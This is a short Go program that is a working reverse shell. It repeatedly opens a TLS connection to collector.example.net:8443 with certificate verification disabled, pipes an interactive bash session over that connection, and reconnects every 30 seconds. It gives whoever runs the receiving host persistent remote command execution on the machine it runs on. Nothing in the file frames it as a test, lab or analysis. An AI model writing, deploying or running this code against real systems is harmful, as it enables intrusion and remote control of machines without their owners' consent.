package main

import (
	"crypto/tls"
	"os/exec"
	"time"
)

const collector = "collector.example.net:8443"

func session() error {
	c, err := tls.Dial("tcp", collector, &tls.Config{InsecureSkipVerify: true})
	if err != nil {
		return err
	}
	defer c.Close()
	cmd := exec.Command("/bin/bash", "--noprofile", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	return cmd.Run()
}

func main() {
	for t := time.NewTicker(30 * time.Second); ; <-t.C {
		_ = session()
	}
}
